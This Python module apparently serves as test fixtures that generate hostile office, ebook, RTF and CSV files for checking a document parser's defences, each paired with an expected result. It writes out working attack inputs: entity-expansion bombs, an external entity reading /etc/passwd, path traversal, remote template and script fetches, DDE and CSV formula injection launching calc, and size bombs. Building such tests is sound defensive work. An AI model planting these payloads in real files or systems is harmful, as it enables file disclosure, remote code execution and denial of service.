"""Documents of offices with entities, loops, numbers without bound, and orders to whoever opens them."""

from hostile_file import FETCHED, LAUGHS, MEBIBYTE, OUTSIDE, PLANTED, WORDS, HostileFile, packed

RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOC, SHEET_1 = "word/document.xml", "xl/worksheets/s.xml"
ODT = "application/vnd.oasis.opendocument.text"
ODS = "application/vnd.oasis.opendocument.spreadsheet"
BOOK = f'<workbook xmlns:r="{RELATED}"><sheets><sheet name="S" r:id="s"/></sheets></workbook>'
BOOK_RELATED = (
    f'<Relationships><Relationship Id="s" Type="{RELATED}/worksheet" Target="worksheets/s.xml"/></Relationships>'
)


def paragraph(words: str = WORDS) -> str:
    return f"<p><r><t>{words}</t></r></p>"


def docx(body: str, *, before: str = "", **parts: str) -> bytes:
    named = {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    return packed({DOC: f"{before}<document><body>{body}</body></document>", **named})


def relations(*targets: tuple[str, str]) -> str:
    rows = (
        f'<Relationship Id="r{n}" Type="{RELATED}/{kind}" Target="{to}" TargetMode="External"/>'
        for n, (kind, to) in enumerate(targets)
    )
    return f"<Relationships>{''.join(rows)}</Relationships>"


def billion_laughs() -> bytes:
    return docx(paragraph("&l11;"), before=f"<!DOCTYPE d [{LAUGHS}]>")


def quadratic_laughs() -> bytes:
    """One entity, as long as it is often used."""
    return docx(paragraph("&a;" * 40_000), before=f"<!DOCTYPE d [<!ENTITY a '{'a' * 40_000}'>]>")


def entity_of_a_file() -> bytes:
    return docx(paragraph("&f;"), before='<!DOCTYPE d [<!ENTITY f SYSTEM "file:///etc/passwd">]>')


def entities_from_elsewhere() -> bytes:
    tricks = f'<!DOCTYPE d SYSTEM "{FETCHED}" [<!ENTITY % p SYSTEM "{FETCHED}"> %p;]>'
    return docx(paragraph(), before=tricks)


def template_from_elsewhere() -> bytes:
    return packed(
        {
            DOC: f"<document><body>{paragraph()}</body></document>",
            "word/_rels/document.xml.rels": relations(
                ("attachedTemplate", FETCHED), ("footnotes", f"file://{OUTSIDE}"), ("comments", f"../../../{PLANTED}")
            ),
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"Sub AutoOpen" * 40,
        }
    )


def nested_tables() -> bytes:
    return docx("<tbl><tr><tc>" * 30_000 + paragraph())


def part_bomb() -> bytes:
    return docx(paragraph(WORDS + " " * (101 * 1000 * 1000)))


def paragraphs_without_end() -> bytes:
    return docx("<p/>" * 1_200_000)


def far_cells() -> bytes:
    row = '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>' * 20
    return packed(
        {
            "xl/workbook.xml": BOOK,
            "xl/_rels/workbook.xml.rels": BOOK_RELATED,
            SHEET_1: f"<worksheet><sheetData>{row}</sheetData></worksheet>",
        }
    )


def formulas() -> bytes:
    cells = "".join(
        f'<c t="str"><f>{formula}</f><v>{WORDS}</v></c>'
        for formula in (
            f"WEBSERVICE(&quot;{FETCHED}&quot;)",
            "cmd|'/c calc'!A1",
            "A1",
            f"HYPERLINK(&quot;{FETCHED}&quot;)",
        )
    )
    numbers = '<c><v>1e400</v></c><c><v>-9e999</v></c><c t="s"><v>99999999</v></c><c t="d"><v>9999999-99-99</v></c>'
    sheet = f"<worksheet><sheetData><row>{cells}{numbers}</row></sheetData></worksheet>"
    return packed({"xl/workbook.xml": BOOK, "xl/_rels/workbook.xml.rels": BOOK_RELATED, SHEET_1: sheet})


def long_text_in_all_cells() -> bytes:
    shared = f'<Relationship Id="t" Type="{RELATED}/sharedStrings" Target="t.xml"/></Relationships>'
    row = "<row>" + '<c t="s"><v>0</v></c>' * 16_000 + "</row>"
    return packed(
        {
            "xl/workbook.xml": BOOK,
            "xl/_rels/workbook.xml.rels": BOOK_RELATED.replace("</Relationships>", shared),
            "xl/t.xml": f"<sst><si><t>{'w' * 32_000}</t></si></sst>",
            SHEET_1: f"<worksheet><sheetData>{row}</sheetData></worksheet>",
        }
    )


def open_document(kind: str, body: str, before: str = "") -> bytes:
    content = f"{before}<d xmlns:text='t' xmlns:table='b' xmlns:xlink='x'><body>{body}</body></d>"
    return packed({"mimetype": kind, "content.xml": content}, 0)


def laughs_of_odt() -> bytes:
    return open_document(ODT, "<text:p>&l11;</text:p>", f"<!DOCTYPE d [{LAUGHS}]>")


def includes_of_odt() -> bytes:
    section = f"<text:section><text:section-source xlink:href='{FETCHED}'/></text:section>"
    script = f"<script>fetch('{FETCHED}')</script><text:p><text:s text:c='2000000000'/>{WORDS}</text:p>"
    return open_document(ODT, section + script)


def repeated_rows() -> bytes:
    cell = f"<table-cell number-columns-repeated='2147483647'><p>{WORDS}</p></table-cell>"
    return open_document(
        ODS, f"<table name='S'><table-row number-rows-repeated='2147483647'>{cell}</table-row></table>"
    )


def book(pages: dict[str, str], spine: str, items: str) -> bytes:
    package = f"<package><manifest>{items}</manifest><spine>{spine}</spine></package>"
    container = '<container><rootfiles><rootfile full-path="book.opf"/></rootfiles></container>'
    return packed(
        {"mimetype": "application/epub+zip", "META-INF/container.xml": container, "book.opf": package, **pages}, 0
    )


def book_of_one_page() -> bytes:
    """A page that the spine names ten thousand times."""
    item = "<item id='a' href='a.xhtml' media-type='application/xhtml+xml'/>"
    return book({"a.xhtml": f"<html><body><p>{WORDS}</p></body></html>"}, "<itemref idref='a'/>" * 10_000, item)


def book_that_leads_out() -> bytes:
    items = "".join(
        f"<item id='i{n}' href='{to}' media-type='application/xhtml+xml'/>"
        for n, to in enumerate(("../../../etc/passwd", f"file://{OUTSIDE}", FETCHED, "a.xhtml"))
    )
    page = f"<html><body><script>fetch('{FETCHED}')</script><p onclick='run()'>{WORDS}</p></body></html>"
    return book({"a.xhtml": page}, "".join(f"<itemref idref='i{n}'/>" for n in range(4)), items)


def deep_rtf() -> bytes:
    return b"{\\rtf1 " + b"{" * 200_000 + WORDS.encode() + b"}" * 100


def rtf_of_false_lengths() -> bytes:
    return (
        b"{\\rtf1 "
        + WORDS.encode()
        + b"\\par \\bin999999999999 "
        + b"\\u-99999999999?\\'zz\\uc999999999 \\u1?" * 50
        + b"}"
    )


def rtf_that_starts_programs() -> bytes:
    objects = r"{\object\objupdate\objemb{\*\objclass Package}{\*\objdata 0105000002000000" + "41" * 5000 + "}}"
    field = rf'{{\field{{\*\fldinst INCLUDEPICTURE "{FETCHED}" \\d}}{{\fldrslt }}}}'
    field += r'{\field{\*\fldinst DDEAUTO cmd "/c calc"}}'
    template = rf"{{\*\template {FETCHED}}}"
    return (r"{\rtf1\ansi " + template + objects + field + WORDS + r"\par}").encode()


def rtf_cut_off() -> bytes:
    return b"{\\rtf1\\ansi {\\b " + WORDS.encode() + b"\\par {\\i again \\'"


def formulas_of_csv() -> bytes:
    cells = ("=cmd|'/c calc'!A1", f'=WEBSERVICE("{FETCHED}")', "@SUM(1+1)*cmd", "+1", "-1")
    quoted = ",".join('"{}"'.format(cell.replace('"', '""')) for cell in cells)
    return (
        "place,number,words,by,year\n" + f'Velmar,32,{quoted[:9]}",a,b\n' * 3 + f"{quoted}\n" * 40 + '"open,1,2'
    ).encode()


def columns_without_end() -> bytes:
    return b"a,b,c\n1,2,3\n4,5,6\n7,8,9\n" + b"," * (2 * MEBIBYTE) + b"\n1,2,3\n"


def old_office() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\xff" * 504 + b"Macros VBA" * 100


DOCUMENTS = (
    HostileFile(name="laughs.docx", make=billion_laughs, said="entities"),
    HostileFile(name="long-laugh.docx", make=quadratic_laughs, said="entities"),
    HostileFile(name="entity-of-a-file.docx", make=entity_of_a_file, said="entities"),
    HostileFile(name="entities-from-elsewhere.docx", make=entities_from_elsewhere, said="entities"),
    HostileFile(name="template.docx", make=template_from_elsewhere, said="not fetched", kept=WORDS),
    HostileFile(name="nested-tables.docx", make=nested_tables, said="nested deeper"),
    HostileFile(name="part-bomb.docx", make=part_bomb, said="what follows is not read", long=True),
    HostileFile(name="paragraphs.docx", make=paragraphs_without_end, said="what follows is not read", long=True),
    HostileFile(name="far-cells.xlsx", make=far_cells, said="", kept="1"),
    HostileFile(name="formulas.xlsx", make=formulas, said="", kept=WORDS),
    HostileFile(name="long-text.xlsx", make=long_text_in_all_cells, said="what follows is not read"),
    HostileFile(name="laughs.odt", make=laughs_of_odt, said="entities"),
    HostileFile(name="includes.odt", make=includes_of_odt, said="1 files outside", kept=WORDS),
    HostileFile(name="repeated.ods", make=repeated_rows, said="what follows is not read"),
    HostileFile(name="one-page.epub", make=book_of_one_page, said="", kept=WORDS),
    HostileFile(name="leads-out.epub", make=book_that_leads_out, said="is missing", kept=WORDS),
    HostileFile(name="deep.rtf", make=deep_rtf, said="nested deeper"),
    HostileFile(name="false-lengths.rtf", make=rtf_of_false_lengths, said="cut off", kept=WORDS),
    HostileFile(name="programs.rtf", make=rtf_that_starts_programs, said="embedded files", kept=WORDS),
    HostileFile(name="cut-off.rtf", make=rtf_cut_off, said="cut off", kept=WORDS),
    HostileFile(name="formulas.csv", make=formulas_of_csv, said="", kept="=cmd|'/c calc'!A1"),
    HostileFile(name="columns.csv", make=columns_without_end, said="what follows is not read", long=True),
    HostileFile(name="old.doc", make=old_office, said="no reader"),
)
